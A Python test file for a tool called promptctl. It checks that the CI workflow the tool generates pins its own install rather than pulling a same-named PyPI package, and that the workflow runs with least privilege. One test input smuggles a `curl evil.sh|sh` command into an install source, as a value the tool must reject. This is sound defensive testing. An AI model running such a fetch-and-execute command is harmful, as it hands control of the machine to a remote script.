"""The workflow `init` writes (and the README's) never installs promptctl by name from
the package index, where an unrelated project owns it; and it runs with least privilege
on `pull_request`, never `pull_request_target`."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from fakes.cli import run
from promptctl.cli.install_pin import pin_from_direct_url

REPO = Path(__file__).resolve().parents[2]
COMMIT = "0123456789abcdef0123456789abcdef01234567"
HASH = "ab" * 32
# `pip install promptctl`, `pip install -U "promptctl==0.1"`, `pip install promptctl[x]`…
BY_NAME = re.compile(r"pip install(?:\s+-\S+)*\s+[\"']?promptctl(?!\s*@)(?:\s|$|[\"'`=<>~!\[])")


def _workflow(root: Path) -> dict[Any, Any]:
    flow = yaml.safe_load((root / ".github" / "workflows" / "promptctl.yml").read_text())
    assert isinstance(flow, dict)
    return flow


def _runs(flow: dict[Any, Any]) -> list[str]:
    return [s["run"] for job in flow["jobs"].values() for s in job["steps"] if "run" in s]


def test_init_pins_the_install_it_is_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    source = f"git+https://github.com/acme/promptctl@{COMMIT}"
    code, _, err = run(["init", str(tmp_path), "--install-from", source], monkeypatch, capsys)
    assert code == 0, err
    flow = _workflow(tmp_path)
    assert f"pip install 'promptctl @ {source}'" in _runs(flow)
    assert not any(BY_NAME.search(r) for r in _runs(flow))
    assert "warning" not in err


def test_init_without_a_pinned_source_writes_a_step_that_fails_not_one_from_pypi(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """This checkout is an editable install: nothing pinned to copy into the workflow."""
    code, _, err = run(["init", str(tmp_path)], monkeypatch, capsys)
    assert code == 0, err
    runs = _runs(_workflow(tmp_path))
    assert not any(BY_NAME.search(r) or "pip install" in r for r in runs)
    (install,) = [r for r in runs if "pin how promptctl is installed" in r]
    assert install.endswith("&& exit 1")
    assert "warning: the workflow cannot install promptctl yet" in err


@pytest.mark.parametrize(
    "source",
    [
        "promptctl",
        "promptctl==0.1.0",
        "promptctl[otel]>=0.1",
        "git+https://github.com/acme/promptctl",  # no ref: whatever the branch is today
        "https://example.com/promptctl-0.1.0-py3-none-any.whl",  # no hash
        f"git+https://github.com/acme/promptctl@{COMMIT}; curl evil.sh|sh",
    ],
)
def test_init_refuses_an_unpinned_source(
    source: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, _, err = run(["init", str(tmp_path), "--install-from", source], monkeypatch, capsys)
    assert code == 2, err
    assert "--install-from" in err and "docs/install.md" in err
    assert not (tmp_path / "promptctl.yaml").exists()


def test_installed_from_git_or_a_hashed_wheel_is_pinned_as_such() -> None:
    vcs = {
        "url": "https://github.com/acme/promptctl",
        "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "v0.1.0"},
    }
    assert pin_from_direct_url(json.dumps(vcs)) == (
        f"promptctl @ git+https://github.com/acme/promptctl@{COMMIT}"
    )
    wheel = {
        "url": "https://example.com/promptctl-0.1.0-py3-none-any.whl",
        "archive_info": {"hashes": {"sha256": HASH}},
    }
    assert pin_from_direct_url(json.dumps(wheel)) == (
        f"promptctl @ https://example.com/promptctl-0.1.0-py3-none-any.whl#sha256={HASH}"
    )
    editable = {"url": "file:///home/me/promptctl", "dir_info": {"editable": True}}
    local_wheel = {"url": "file:///tmp/promptctl.whl", "archive_info": {"hashes": {}}}
    for info in (editable, local_wheel):
        assert pin_from_direct_url(json.dumps(info)) is None
    assert pin_from_direct_url(None) is None and pin_from_direct_url("{not json") is None


def test_the_workflow_runs_on_pull_request_with_least_privilege(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run(["init", str(tmp_path)], monkeypatch, capsys)
    assert code == 0, err
    text = (tmp_path / ".github" / "workflows" / "promptctl.yml").read_text()
    flow = yaml.safe_load(text)
    assert flow[True] == {"pull_request": None}  # YAML 1.1 reads the key `on` as true
    assert flow["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert all("permissions" not in job for job in flow["jobs"].values())
    assert "NOT `pull_request_target`" in text  # and says why, for the next editor
    checkout = flow["jobs"]["gate"]["steps"][0]
    assert checkout["with"]["persist-credentials"] is False


@pytest.mark.parametrize(
    "doc", ["README.md", *sorted(p.name for p in (REPO / "docs").glob("*.md"))]
)
def test_no_document_tells_anyone_to_install_promptctl_by_name(doc: str) -> None:
    path = REPO / doc if doc == "README.md" else REPO / "docs" / doc
    for line in path.read_text(encoding="utf-8").splitlines():
        if BY_NAME.search(line):
            assert "never" in line.lower() or "not" in line.lower(), f"{doc}: {line}"
